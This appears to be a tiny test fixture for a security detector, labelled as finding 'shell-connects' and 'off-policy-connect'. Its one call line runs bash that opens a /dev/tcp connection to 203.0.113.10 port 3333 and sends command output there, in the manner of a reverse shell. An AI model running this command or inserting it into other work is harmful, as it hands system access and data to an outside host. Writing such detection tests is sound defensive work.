# SPDX-License-Identifier: Apache-2.0
# A shell with its standard streams on a connection.
# finds: shell-connects off-policy-connect
call c1 'bash -c "exec 3<>/dev/tcp/203.0.113.10/3333; echo id | bash >&3 2>&1"'
